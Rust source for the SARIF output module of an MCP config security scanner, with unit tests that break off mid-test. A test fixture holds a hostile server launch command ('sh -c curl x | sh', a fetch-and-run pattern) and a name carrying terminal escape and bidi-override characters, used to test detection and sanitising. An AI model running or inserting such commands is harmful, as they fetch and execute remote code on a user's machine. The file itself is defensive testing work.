//! `--sarif PATH`: SARIF 2.1.0 for GitHub code scanning.
//!
//! One run; `tool.driver.rules` is the whole rule catalog (so `ruleIndex` values
//! are stable across reports and every alert GitHub shows has its help text, even
//! for rules that did not fire this time); one result per finding, in report order,
//! located at the server entry in the config file it came from
//! (`physicalLocation` with the line and column of the entry's key; a path under
//! `base_dir` is a relative URI against `%SRCROOT%`, anything else an absolute
//! `file://` URI) plus a logical location naming the target. Config-derived text
//! passes through [`safe_text`]; file URIs are percent-encoded byte by byte, which
//! neutralises any control or bidi character in a path without changing the path.

use std::path::{Component, Path};
use std::sync::Arc;

use serde::Serialize;
use sha2::{Digest, Sha256};

use std::borrow::Cow;

use crate::model::{AuditedServer, FileProblem, Finding, ProblemKind, Report};
use crate::render::record::{Evidence, Grade, LockRecord, Record, RecordKind, RecordRule};
use crate::render::Targets;
use crate::rules::{Rule, RuleId, Severity, RULES};
use crate::text::display;
use crate::text::safe_text::{safe_text, safe_text_capped};

/// The SARIF schema URI GitHub and the SARIF tools recognise.
pub const SARIF_SCHEMA: &str = "https://json.schemastore.org/sarif-2.1.0.json";
/// The SARIF version written.
pub const SARIF_VERSION: &str = "2.1.0";
/// The project's home page (`tool.driver.informationUri`).
pub const INFORMATION_URI: &str = "https://github.com/mcp-warden/mcp-warden";
/// Where each rule is documented (`rules[].helpUri` is this plus `#<rule id, lowercase>`).
pub const RULES_DOC_URI: &str = "https://github.com/mcp-warden/mcp-warden/blob/main/docs/rules.md";
/// The `uriBaseId` of paths under `base_dir`.
pub const SRCROOT: &str = "%SRCROOT%";
/// The `partialFingerprints` key: sha256 of rule id, target and snippet.
pub const FINGERPRINT_KEY: &str = "mcpWardenFinding/v1";

#[derive(Serialize)]
struct Log<'a> {
    #[serde(rename = "$schema")]
    schema: &'static str,
    version: &'static str,
    runs: [Run<'a>; 1],
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Run<'a> {
    tool: Tool<'a>,
    #[serde(skip_serializing_if = "Option::is_none")]
    original_uri_base_ids: Option<OriginalUriBaseIds>,
    #[serde(skip_serializing_if = "Option::is_none")]
    invocations: Option<[Invocation; 1]>,
    results: Vec<SarifResult>,
    #[serde(skip_serializing_if = "Option::is_none")]
    column_kind: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    properties: Option<RunProperties>,
}

#[derive(Serialize)]
struct OriginalUriBaseIds {
    #[serde(rename = "%SRCROOT%")]
    srcroot: ArtifactLocation,
}

/// The run's one invocation: whether doctor could do its job (false when the exit
/// is 2: a file could not be read), and every file it did not scan.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Invocation {
    execution_successful: bool,
    exit_code: i32,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    tool_execution_notifications: Vec<Notification>,
}

#[derive(Serialize)]
struct Notification {
    level: &'static str,
    message: Text,
    properties: NotificationProperties,
}

#[derive(Serialize)]
struct NotificationProperties {
    /// `skipped` or `unreadable`.
    kind: &'static str,
    path: String,
    reason: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    rescan: Option<String>,
}

#[derive(Serialize)]
struct RunProperties {
    sandbox: String,
    /// Files skipped unread: discovered configs and locks in the tree (the names
    /// predate lock skips and are kept for consumers of this log).
    #[serde(rename = "skippedConfigs")]
    skipped_configs: usize,
    /// Files (or `~/.claude.json` sections) that could not be read, parsed or
    /// examined within their budget: configs and locks.
    #[serde(rename = "unreadableConfigs")]
    unreadable_configs: usize,
}

#[derive(Serialize)]
struct Tool<'a> {
    driver: Driver<'a>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Driver<'a> {
    name: &'static str,
    version: &'a str,
    semantic_version: &'a str,
    information_uri: &'static str,
    rules: Vec<ReportingDescriptor>,
}

#[derive(Serialize)]
struct Text {
    text: String,
}

#[derive(Serialize)]
struct Help {
    text: String,
    markdown: String,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct ReportingDescriptor {
    id: String,
    name: String,
    short_description: Text,
    full_description: Text,
    help_uri: String,
    help: Help,
    default_configuration: DefaultConfiguration,
    properties: RuleProperties,
}

#[derive(Serialize)]
struct DefaultConfiguration {
    level: &'static str,
}

#[derive(Serialize)]
struct RuleProperties {
    #[serde(rename = "security-severity")]
    security_severity: &'static str,
    tags: [&'static str; 1],
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct SarifResult {
    rule_id: String,
    rule_index: usize,
    level: &'static str,
    message: Text,
    locations: [Location; 1],
    partial_fingerprints: std::collections::BTreeMap<&'static str, String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    suppressions: Option<[SarifSuppression; 1]>,
    properties: ResultProperties,
}

/// A user suppression (`ignore.toml`): `external` (it is not in the scanned file),
/// accepted, with the user's reason as the justification.
#[derive(Serialize)]
struct SarifSuppression {
    kind: &'static str,
    status: &'static str,
    justification: String,
    properties: SuppressionProperties,
}

#[derive(Serialize)]
struct SuppressionProperties {
    /// The ISO date after which the entry no longer applies.
    expires: String,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct ResultProperties {
    severity: String,
    target: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    drift_class: Option<&'static str>,
    /// The drift's target again: the name the earlier implementation gave it.
    #[serde(skip_serializing_if = "Option::is_none")]
    schema_path: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    detail: Option<String>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Location {
    #[serde(skip_serializing_if = "Option::is_none")]
    physical_location: Option<PhysicalLocation>,
    logical_locations: [LogicalLocation; 1],
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct PhysicalLocation {
    artifact_location: ArtifactLocation,
    #[serde(skip_serializing_if = "Option::is_none")]
    region: Option<Region>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct ArtifactLocation {
    uri: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    uri_base_id: Option<&'static str>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Region {
    start_line: u32,
    #[serde(skip_serializing_if = "Option::is_none")]
    start_column: Option<u32>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct LogicalLocation {
    fully_qualified_name: String,
    kind: &'static str,
}

/// `WRD-AUTH-URL-CREDENTIAL` → `AuthUrlCredential`.
pub fn rule_name(code: &str) -> String {
    code.trim_start_matches("WRD-")
        .split('-')
        .map(|part| {
            let lower = part.to_ascii_lowercase();
            let mut chars = lower.chars();
            match chars.next() {
                Some(first) => first.to_ascii_uppercase().to_string() + chars.as_str(),
                None => String::new(),
            }
        })
        .collect()
}

/// A catalog rule's descriptor (doctor lists the whole catalog).
fn descriptor(rule: &Rule) -> ReportingDescriptor {
    descriptor_for(rule.code, Some(rule), Grade::Known(rule.severity))
}

/// The descriptor of rule id `id`, documented by `rule` (a fine-grained drift id by
/// its class's catalog entry, at the class's own severity; an id no catalog entry
/// documents by a line saying so).
fn descriptor_for(id: &str, rule: Option<&Rule>, severity: Grade<'_>) -> ReportingDescriptor {
    // `id` is already display-safe (see `RecordRule::id`).
    let (short, help) = match rule {
        Some(rule) => (rule.short.to_string(), rule.help.to_string()),
        None => (
            format!("{id}."),
            "This version of mcp-warden does not know this rule; see the message for details."
                .to_string(),
        ),
    };
    let shown = id;
    ReportingDescriptor {
        id: shown.to_string(),
        name: rule_name(shown),
        full_description: Text {
            text: format!("{short} {help}"),
        },
        help_uri: format!("{RULES_DOC_URI}#{}", shown.to_ascii_lowercase()),
        help: Help {
            markdown: format!(
                "**{shown}** (default severity: {})\n\n{short}\n\n{help}",
                severity.as_str()
            ),
            text: help,
        },
        short_description: Text { text: short },
        default_configuration: DefaultConfiguration {
            level: severity.level(),
        },
        properties: RuleProperties {
            security_severity: match severity {
                Grade::Known(s) => s.security_severity(),
                Grade::Unknown(_) => Severity::Medium.security_severity(),
            },
            tags: ["security"],
        },
    }
}

/// Percent-encode one path segment's bytes: RFC 3986 unreserved characters stay.
fn encode_segment(bytes: &[u8], out: &mut String) {
    for &b in bytes {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
}

/// The URI path of `path`'s components: `/`-joined encoded segments, with a
/// leading `/` for an absolute path (and `/C:` for a Windows drive prefix).
fn uri_path(path: &Path) -> String {
    let mut out = String::new();
    let mut first = true;
    for component in path.components() {
        match component {
            Component::Prefix(prefix) => {
                out.push('/');
                // Drive letters (`C:`) stay readable; the rest is encoded.
                let raw = prefix.as_os_str().to_string_lossy();
                out.push_str(&raw.replace('\\', "/"));
                first = false;
                continue;
            }
            Component::RootDir => {
                if out.is_empty() {
                    out.push('/');
                }
                first = true;
                continue;
            }
            Component::CurDir => continue,
            Component::ParentDir => {
                if !first && !out.ends_with('/') {
                    out.push('/');
                }
                out.push_str("..");
            }
            Component::Normal(name) => {
                if !first && !out.ends_with('/') {
                    out.push('/');
                }
                encode_segment(name.as_encoded_bytes(), &mut out);
            }
        }
        first = false;
    }
    out
}

/// A `file://` URI for an absolute path (`file:///home/u/x.json`).
fn file_uri(path: &Path) -> String {
    format!("file://{}", uri_path(path))
}

/// Where a config file is, as a SARIF artifact location.
fn artifact_location(path: &Path, base_dir: &Path) -> ArtifactLocation {
    if let Ok(relative) = path.strip_prefix(base_dir) {
        if base_dir.is_absolute() && relative.components().next().is_some() {
            return ArtifactLocation {
                uri: uri_path(relative),
                uri_base_id: Some(SRCROOT),
            };
        }
    }
    if path.is_absolute() {
        ArtifactLocation {
            uri: file_uri(path),
            uri_base_id: None,
        }
    } else {
        // Relative to where doctor ran, which is what base_dir names.
        ArtifactLocation {
            uri: uri_path(path),
            uri_base_id: Some(SRCROOT),
        }
    }
}

/// `sha256(rule \0 target \0 snippet \0)` in hex. A server's findings share its
/// target and come sorted by rule, so the hash state after `rule \0 target \0` is
/// kept and reused while both stay the same: a 64 KiB target is hashed once per rule,
/// not once per finding.
struct Fingerprints {
    prefix: Option<(RuleId, Arc<str>, Sha256)>,
}

impl Fingerprints {
    fn new() -> Fingerprints {
        Fingerprints { prefix: None }
    }

    fn of(&mut self, finding: &Finding) -> String {
        let reusable = self.prefix.as_ref().is_some_and(|(rule, target, _)| {
            *rule == finding.rule && Arc::ptr_eq(target, &finding.target)
        });
        if !reusable {
            let mut h = Sha256::new();
            for part in [finding.rule.as_str(), &finding.target] {
                h.update(part.as_bytes());
                h.update([0u8]);
            }
            self.prefix = Some((finding.rule, Arc::clone(&finding.target), h));
        }
        let mut h = match &self.prefix {
            Some((_, _, h)) => h.clone(),
            None => Sha256::new(),
        };
        h.update(finding.snippet.as_bytes());
        h.update([0u8]);
        hex(&h.finalize())
    }
}

fn hex(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut out = String::with_capacity(bytes.len() * 2);
    for &b in bytes {
        out.push(char::from(DIGITS[usize::from(b >> 4)]));
        out.push(char::from(DIGITS[usize::from(b & 0xf)]));
    }
    out
}

/// The SARIF result of one record.
struct Placed {
    rule_index: usize,
    physical_location: Option<PhysicalLocation>,
    fingerprint: (&'static str, String),
    suppression: Option<[SarifSuppression; 1]>,
}

fn result_of(record: &Record<'_>, placed: Placed) -> SarifResult {
    let target = record.target.to_string();
    let (drift_class, schema_path, detail) = match (&record.kind, &record.evidence) {
        (RecordKind::Drift(class), Evidence::Detail(detail)) => (
            Some(class.as_str()),
            Some(target.clone()),
            detail.as_deref().map(str::to_string),
        ),
        _ => (None, None, None),
    };
    SarifResult {
        rule_id: record.rule.id().to_string(),
        rule_index: placed.rule_index,
        level: record.severity.level(),
        message: Text {
            text: record.sarif_message(),
        },
        locations: [Location {
            physical_location: placed.physical_location,
            logical_locations: [LogicalLocation {
                fully_qualified_name: target.clone(),
                kind: "resource",
            }],
        }],
        partial_fingerprints: [placed.fingerprint].into_iter().collect(),
        suppressions: placed.suppression,
        properties: ResultProperties {
            severity: record.severity.as_str().to_string(),
            target,
            drift_class,
            schema_path,
            detail,
        },
    }
}

/// Where a finding is: its source (index into [`Report::sources`]) and the
/// position of the server's or setting's key, the fallback when the finding does
/// not say where its value is.
#[derive(Clone, Copy)]
struct At {
    source: usize,
    line: u32,
    column: u32,
}

fn result(
    report: &Report,
    at: At,
    finding: &Finding,
    base_dir: &Path,
    memo: &mut (Targets, Fingerprints),
) -> SarifResult {
    // Capped at 200 code points by `display`: one short copy per result.
    let target = memo.0.display(&finding.target);
    let with_fix = finding.message_with_fix();
    let message = display(&with_fix);
    let record = Record {
        kind: RecordKind::Finding,
        rule: RecordRule::Catalog(finding.rule),
        severity: Grade::Known(finding.severity()),
        target: Cow::Borrowed(&target),
        message,
        evidence: Evidence::Snippet(display(&finding.snippet)),
    };
    let (line, column) = match finding.at {
        Some(p) => (p.line, p.column),
        None => (at.line, at.column),
    };
    let physical_location = report
        .sources
        .get(at.source)
        .map(|source| PhysicalLocation {
            artifact_location: artifact_location(&source.path, base_dir),
            region: (line > 0).then(|| Region {
                start_line: line,
                start_column: Some(column.max(1)),
            }),
        });
    let suppression = finding.suppressed.as_ref().map(|s| {
        [SarifSuppression {
            kind: "external",
            status: "accepted",
            justification: display(&s.reason).into_owned(),
            properties: SuppressionProperties {
                expires: display(&s.expires).into_owned(),
            },
        }]
    });
    result_of(
        &record,
        Placed {
            rule_index: finding.rule as usize,
            physical_location,
            fingerprint: (FINGERPRINT_KEY, memo.1.of(finding)),
            suppression,
        },
    )
}

/// `%SRCROOT%`, when `base_dir` is absolute.
fn original_uri_base_ids(base_dir: &Path) -> Option<OriginalUriBaseIds> {
    base_dir.is_absolute().then(|| {
        let mut uri = file_uri(base_dir);
        if !uri.ends_with('/') {
            uri.push('/');
        }
        OriginalUriBaseIds {
            srcroot: ArtifactLocation {
                uri,
                uri_base_id: None,
            },
        }
    })
}

fn driver(tool_version: &str, rules: Vec<ReportingDescriptor>) -> Tool<'_> {
    Tool {
        driver: Driver {
            name: "mcp-warden",
            version: tool_version,
            semantic_version: tool_version,
            information_uri: INFORMATION_URI,
            rules,
        },
    }
}

/// Pretty-printed with a trailing newline.
fn finish(log: &Log<'_>) -> String {
    // Serialising these plain structs cannot fail (string keys, no maps of non-strings).
    let mut text = serde_json::to_string_pretty(log).unwrap_or_default();
    text.push('\n');
    text
}

/// The one notification of a file doctor did not scan.
fn notification(problem: &FileProblem) -> Notification {
    let path = safe_text_capped(&problem.path, 4096);
    let reason = crate::text::redact::display_capped(&problem.reason, 4096).into_owned();
    let (level, what) = match problem.kind {
        ProblemKind::Skipped => ("warning", "skipped, not scanned"),
        ProblemKind::Unreadable => ("error", "could not be read, not scanned"),
    };
    let rescan = problem.rescan.as_deref().map(|r| safe_text_capped(r, 8192));
    let mut text = format!("{path}: {what}: {reason}");
    if let Some(rescan) = &rescan {
        text.push_str(&format!(" (to scan it anyway: {rescan})"));
    }
    if !text.ends_with('.') {
        text.push('.');
    }
    Notification {
        level,
        message: Text { text },
        properties: NotificationProperties {
            kind: problem.kind.as_str(),
            path,
            reason,
            rescan,
        },
    }
}

/// The SARIF 2.1.0 log for `report`, pretty-printed with a trailing newline.
/// `base_dir` (the directory doctor ran in, absolute) becomes `%SRCROOT%`;
/// `exit_code` is the code the process exits with (computed by the caller with
/// [`crate::parent::doctor::exit_code`]): 2 makes `executionSuccessful` false.
pub fn render(report: &Report, tool_version: &str, base_dir: &Path, exit_code: u8) -> String {
    let mut memo = (Targets::new(), Fingerprints::new());
    let at_server = |server: &AuditedServer| At {
        source: server.source,
        line: server.line,
        column: server.column,
    };
    let results = report
        .servers
        .iter()
        .flat_map(|server| server.findings.iter().map(move |f| (at_server(server), f)))
        .chain(report.setting_findings.iter().map(|f| {
            let at = At {
                source: f.source,
                line: f.line,
                column: f.column,
            };
            (at, &f.finding)
        }))
        .map(|(at, finding)| result(report, at, finding, base_dir, &mut memo))
        .collect();
    let log = Log {
        schema: SARIF_SCHEMA,
        version: SARIF_VERSION,
        runs: [Run {
            tool: driver(tool_version, RULES.iter().map(descriptor).collect()),
            original_uri_base_ids: original_uri_base_ids(base_dir),
            invocations: Some([Invocation {
                execution_successful: exit_code != 2,
                exit_code: i32::from(exit_code),
                tool_execution_notifications: report.problems.iter().map(notification).collect(),
            }]),
            results,
            column_kind: Some("unicodeCodePoints"),
            properties: Some(RunProperties {
                sandbox: safe_text(&report.sandbox),
                skipped_configs: report.skipped,
                unreadable_configs: report.hard_errors,
            }),
        }],
    };
    finish(&log)
}

/// The `partialFingerprints` key of `pin`/`check` results.
pub const LOCK_FINGERPRINT_KEY: &str = "mcpWardenPin/v1";

/// The SARIF 2.1.0 log of `pin` or `check`: one result per record, located in the
/// lock at `lock_path` (relative to `%SRCROOT%`, `base_dir`, when it is under it),
/// at the line of the entry the record is about. `rules` lists the ids that occur,
/// sorted, each documented by its catalog entry.
pub fn render_lock(
    records: &[LockRecord<'_>],
    lock_path: &Path,
    base_dir: &Path,
    tool_version: &str,
) -> String {
    let mut ids: Vec<(Cow<'_, str>, RecordRule<'_>, Grade<'_>)> = records
        .iter()
        .map(|r| (r.record.rule.id(), r.record.rule, r.record.severity))
        .collect();
    ids.sort_by(|a, b| a.0.cmp(&b.0));
    ids.dedup_by(|a, b| a.0 == b.0);
    let rules = ids
        .iter()
        .map(|(id, rule, recorded)| {
            // A drift id's level is its class's; a catalog rule's the catalog's; an
            // unknown one's what the lock recorded.
            let severity = match rule {
                RecordRule::Drift(class) => Grade::Known(class.severity()),
                RecordRule::Catalog(rule) => Grade::Known(rule.severity()),
                RecordRule::Unknown(_) => *recorded,
            };
            descriptor_for(id, rule.catalog().map(RuleId::rule), severity)
        })
        .collect();
    let artifact = || artifact_location(lock_path, base_dir);
    let results = records
        .iter()
        .map(|r| {
            let id = r.record.rule.id();
            let mut h = Sha256::new();
            for part in [&id, r.target, r.fingerprinted] {
                h.update(part.as_bytes());
                h.update([0u8]);
            }
            result_of(
                &r.record,
                Placed {
                    rule_index: ids
                        .binary_search_by(|(i, _, _)| i.as_ref().cmp(&id))
                        .unwrap_or(0),
                    physical_location: Some(PhysicalLocation {
                        artifact_location: artifact(),
                        region: Some(Region {
                            start_line: r.line.max(1),
                            start_column: None,
                        }),
                    }),
                    fingerprint: (LOCK_FINGERPRINT_KEY, hex(&h.finalize())),
                    suppression: None,
                },
            )
        })
        .collect();
    let log = Log {
        schema: SARIF_SCHEMA,
        version: SARIF_VERSION,
        runs: [Run {
            tool: driver(tool_version, rules),
            original_uri_base_ids: original_uri_base_ids(base_dir),
            invocations: None,
            results,
            column_kind: None,
            properties: None,
        }],
    };
    finish(&log)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Coverage, Source};
    use crate::render::jsonl::tests::worked_example;
    use crate::rules::RuleId;
    use serde_json::Value;

    const SCHEMA: &str = include_str!("../../tests/sarif/sarif-2.1.0.json");

    fn parse(text: &str) -> Value {
        serde_json::from_str(text).unwrap_or_else(|e| panic!("{e}"))
    }

    /// Findings from several rules, in a user-level file (outside base_dir) and a
    /// project-level file (under it), with a hostile name and path.
    pub(crate) fn mixed_report() -> Report {
        let mut r = worked_example();
        r.sources.push(Source {
            client: "Claude Code (project)".into(),
            label: "/work/repo/.mcp.json".into(),
            path: std::path::Path::new("/work/repo/.mcp.json").into(),
            scope: crate::model::Scope::User,
            client_id: None,
            layer: crate::model::Layer::User,
            project_dir: None,
            settings: Vec::new(),
        });
        r.sources.push(Source {
            client: "VS Code (project)".into(),
            label: "/work/repo/sub dir/.vscode/mcp.json".into(),
            path: std::path::Path::new("/work/repo/sub dir/\u{202e}x/.vscode/mcp.json").into(),
            scope: crate::model::Scope::User,
            client_id: None,
            layer: crate::model::Layer::User,
            project_dir: None,
            settings: Vec::new(),
        });
        let evil = "gh\u{1b}[2K\n mcp-warden pin sh";
        let target = format!("/work/repo/.mcp.json#{evil}");
        r.servers.push(AuditedServer {
            source: 3,
            name: evil.into(),
            target: target.as_str().into(),
            spec: crate::engines::tests::spec_of(crate::protocol::ServerBody {
                command: Some("sh".into()),
                args: vec!["-c".into(), "curl x | sh".into()],
                ..crate::protocol::ServerBody::default()
            }),
            line: 3,
            column: 5,
            findings: vec![
                Finding {
                    rule: RuleId::DoctorAmbiguousServer,
                    target: target.as_str().into(),
                    message:
                        "declared under both mcpServers and servers with different definitions"
                            .into(),
                    snippet: evil.into(),
                    fix: None,
                    field: None,
                    at: None,
                    suppressed: None,
                },
                Finding {
                    rule: RuleId::SupCurlPipe,
                    target: target.as_str().into(),
                    message: "Launch reconstructs a remote-fetch-execute (curl|sh / wget|sh) shape"
                        .into(),
                    snippet: "sh -c curl x | sh".into(),
                    fix: None,
                    field: None,
                    at: None,
                    suppressed: None,
                },
            ],
            coverage: Coverage::Unapproved {
                lock: "x.warden.lock".into(),
                problem: crate::model::LockProblem::NotApproved,
            },
            lock_name: None,
        });
        r.servers.push(AuditedServer {
            source: 4,
            name: "vs".into(),
            target: "/work/repo/sub dir/.vscode/mcp.json#vs".into(),
            spec: crate::engines::tests::spec_of(crate::protocol::ServerBody {
                url: Some("http://h.example.com".into()),
                ..crate::protocol::ServerBody::default()
            }),
            line: 2,
            column: 15,
            findings: vec![Finding {
                rule: RuleId::DoctorLockUnapproved,
                target: "/work/repo/sub dir/.vscode/mcp.json#vs".into(),
                message: "a warden.lock matches this server but pin.approved is false".into(),
                snippet: "vs".into(),
                fix: None,
                field: None,
                at: None,
                suppressed: None,
            }],
            coverage: Coverage::Unapproved {
                lock: "vs.warden.lock".into(),
                problem: crate::model::LockProblem::NotApproved,
            },
            lock_name: None,
        });
        r
    }

    /// The results of a log that validates.
    fn results_of(text: &str) -> Vec<Value> {
        validate(text);
        parse(text)["runs"][0]["results"]
            .as_array()
            .cloned()
            .unwrap_or_default()
    }

    fn validate(text: &str) {
        let schema: Value = parse(SCHEMA);
        let validator =
            jsonschema::validator_for(&schema).unwrap_or_else(|e| panic!("schema: {e}"));
        let instance = parse(text);
        let errors: Vec<String> = validator
            .iter_errors(&instance)
            .map(|e| format!("{e} at {}", e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "SARIF does not validate: {errors:#?}");
    }

    #[test]
    fn validates_against_the_sarif_schema() {
        validate(&render(
            &mixed_report(),
            "0.1.0",
            Path::new("/work/repo"),
            1,
        ));
        validate(&render(
            &Report::default(),
            "0.1.0",
            Path::new("/work/repo"),
            1,
        ));
        validate(&render(
            &worked_example(),
            "0.1.0",
            Path::new("relative"),
            1,
        ));
    }

    #[test]
    fn findings_at_settings_are_results_at_the_setting() {
        let mut r = worked_example();
        let label = r.sources[1].label.clone();
        r.setting_findings.push(crate::model::SettingFinding {
            source: 1,
            line: 7,
            column: 5,
            finding: Finding {
                rule: RuleId::ClientDiscoveryImport,
                target: label.as_str().into(),
                message: "chat.mcp.discovery.enabled imports MCP servers".into(),
                snippet: "chat.mcp.discovery.enabled".into(),
                fix: None,
                field: None,
                at: None,
                suppressed: None,
            },
        });
        let text = render(&r, "0.1.0", Path::new("/work/repo"), 1);
        validate(&text);
        let log = parse(&text);
        let results = log["runs"][0]["results"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        let last = results.last().cloned().unwrap_or_default();
        assert_eq!(last["ruleId"], "WRD-CLIENT-DISCOVERY-IMPORT");
        let rules = &log["runs"][0]["tool"]["driver"]["rules"];
        let index = last["ruleIndex"].as_u64().unwrap_or(u64::MAX) as usize;
        assert_eq!(rules[index]["id"], "WRD-CLIENT-DISCOVERY-IMPORT");
        let region = &last["locations"][0]["physicalLocation"]["region"];
        assert_eq!(
            (region["startLine"].as_u64(), region["startColumn"].as_u64()),
            (Some(7), Some(5))
        );
        assert!(
            last["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .is_some_and(|u| u.ends_with(".cursor/mcp.json"))
        );
    }

    #[test]
    fn schema_rejects_a_broken_log() {
        // The validation has teeth: a result without a message is refused.
        let mut v = parse(&render(
            &mixed_report(),
            "0.1.0",
            Path::new("/work/repo"),
            1,
        ));
        if let Some(obj) = v["runs"][0]["results"][0].as_object_mut() {
            obj.remove("message");
        }
        let schema = parse(SCHEMA);
        let validator =
            jsonschema::validator_for(&schema).unwrap_or_else(|e| panic!("schema: {e}"));
        assert!(!validator.is_valid(&v));
    }

    #[test]
    fn structure() {
        let text = render(&mixed_report(), "0.1.0", Path::new("/work/repo"), 1);
        assert!(text.ends_with("}\n"));
        assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}'));
        let v = parse(&text);
        assert_eq!(v["$schema"], SARIF_SCHEMA);
        assert_eq!(v["version"], "2.1.0");
        let runs = v["runs"].as_array().map(Vec::len);
        assert_eq!(runs, Some(1));
        let run = &v["runs"][0];
        assert_eq!(run["columnKind"], "unicodeCodePoints");
        assert_eq!(
            run["properties"]["sandbox"],
            "landlock ABI 6, seccomp, no capabilities"
        );
        assert_eq!(
            run["originalUriBaseIds"]["%SRCROOT%"]["uri"],
            "file:///work/repo/"
        );
        let driver = &run["tool"]["driver"];
        assert_eq!(driver["name"], "mcp-warden");
        assert_eq!(driver["version"], "0.1.0");
        assert_eq!(driver["informationUri"], INFORMATION_URI);
        let rules = driver["rules"].as_array().cloned().unwrap_or_default();
        assert_eq!(rules.len(), RULES.len());
        for (i, rule) in RULES.iter().enumerate() {
            assert_eq!(rules[i]["id"], rule.code);
            assert_eq!(
                rules[i]["defaultConfiguration"]["level"],
                rule.severity.level()
            );
            assert_eq!(
                rules[i]["properties"]["security-severity"],
                rule.severity.security_severity()
            );
            assert_eq!(rules[i]["properties"]["tags"][0], "security");
            assert_eq!(rules[i]["shortDescription"]["text"], rule.short);
            assert_eq!(rules[i]["help"]["text"], rule.help);
        }
        assert_eq!(rules[0]["name"], "AuthUrlCredential");

        let results = run["results"].as_array().cloned().unwrap_or_default();
        let report = mixed_report();
        let findings: Vec<&Finding> = report.findings().collect();
        assert_eq!(results.len(), findings.len());
        for (res, f) in results.iter().zip(&findings) {
            assert_eq!(res["ruleId"], f.rule.as_str());
            let index = res["ruleIndex"].as_u64().unwrap_or(u64::MAX) as usize;
            assert_eq!(rules[index]["id"], f.rule.as_str());
            assert_eq!(res["level"], f.severity().level());
            assert_eq!(res["properties"]["severity"], f.severity().as_str());
            assert_eq!(res["properties"]["target"], safe_text(&f.target));
            let loc = &res["locations"][0];
            assert_eq!(
                loc["logicalLocations"][0]["fullyQualifiedName"],
                safe_text(&f.target)
            );
            assert_eq!(loc["logicalLocations"][0]["kind"], "resource");
            assert_eq!(
                res["partialFingerprints"][FINGERPRINT_KEY]
                    .as_str()
                    .map(str::len),
                Some(64)
            );
        }
        // User-level file: absolute file URI (spaces encoded); line and column.
        let user = &results[5]["locations"][0]["physicalLocation"];
        assert_eq!(
            user["artifactLocation"]["uri"],
            "file:///home/u/Library/Application%20Support/Claude/claude_desktop_config.json"
        );
        assert!(user["artifactLocation"].get("uriBaseId").is_none());
        assert_eq!(user["region"]["startLine"], 1);
        assert_eq!(user["region"]["startColumn"], 3);
        // Project-level file: relative to %SRCROOT%.
        let project = &results[8]["locations"][0]["physicalLocation"];
        assert_eq!(project["artifactLocation"]["uri"], ".mcp.json");
        assert_eq!(project["artifactLocation"]["uriBaseId"], "%SRCROOT%");
        assert_eq!(project["region"]["startLine"], 3);
        assert_eq!(project["region"]["startColumn"], 5);
        let hostile = &results[10]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"];
        assert_eq!(hostile, "sub%20dir/%E2%80%AEx/.vscode/mcp.json");
        // Hostile text is neutralised in messages and targets.
        assert_eq!(
            results[8]["message"]["text"],
            "declared under both mcpServers and servers with different definitions [gh\u{FFFD}[2K\u{FFFD} mcp-warden pin sh]"
        );
    }

    #[test]
    fn fingerprints_are_stable_and_distinct() {
        let a = render(&mixed_report(), "0.1.0", Path::new("/work/repo"), 1);
        let b = render(&mixed_report(), "9.9.9", Path::new("/elsewhere"), 1);
        let fp = |t: &str| -> Vec<Value> {
            parse(t)["runs"][0]["results"]
                .as_array()
                .map(|r| {
                    r.iter()
                        .map(|x| x["partialFingerprints"][FINGERPRINT_KEY].clone())
                        .collect()
                })
                .unwrap_or_default()
        };
        assert_eq!(fp(&a), fp(&b));
        let mut uniq = fp(&a);
        uniq.dedup();
        assert_eq!(uniq.len(), fp(&a).len());
    }

    #[test]
    fn empty_report_has_empty_results() {
        let v = parse(&render(
            &Report::default(),
            "0.1.0",
            Path::new("/work/repo"),
            1,
        ));
        assert_eq!(v["runs"][0]["results"], Value::Array(vec![]));
        assert_eq!(
            v["runs"][0]["tool"]["driver"]["rules"]
                .as_array()
                .map(Vec::len),
            Some(RULES.len())
        );
    }

    /// `MCP_WARDEN_SARIF_DUMP=DIR cargo test --lib render::sarif` writes the sample
    /// logs to DIR, for checking them with an external validator (SARIF Multitool).
    #[test]
    fn dump_samples_when_asked() {
        let Some(dir) = std::env::var_os("MCP_WARDEN_SARIF_DUMP") else {
            return;
        };
        let dir = std::path::PathBuf::from(dir);
        let write = |name: &str, text: String| {
            std::fs::write(dir.join(name), text).unwrap_or_else(|e| panic!("{name}: {e}"));
        };
        write(
            "findings.sarif",
            render(&mixed_report(), "0.1.0", Path::new("/work/repo"), 1),
        );
        write(
            "empty.sarif",
            render(&Report::default(), "0.1.0", Path::new("/work/repo"), 1),
        );
        write("problems.sarif", problems_sample());
        write("lock.sarif", lock_sample());
    }

    #[test]
    fn regions_are_at_the_value_when_the_finding_says_where_it_is() {
        let mut r = mixed_report();
        // The curl|sh finding is about args[1], on line 4; the other finding of the
        // server says nothing and stays at the entry's key (3:5).
        let curl = &mut r.servers[3].findings[1];
        curl.field = Some(crate::model::FieldPath::Arg(1));
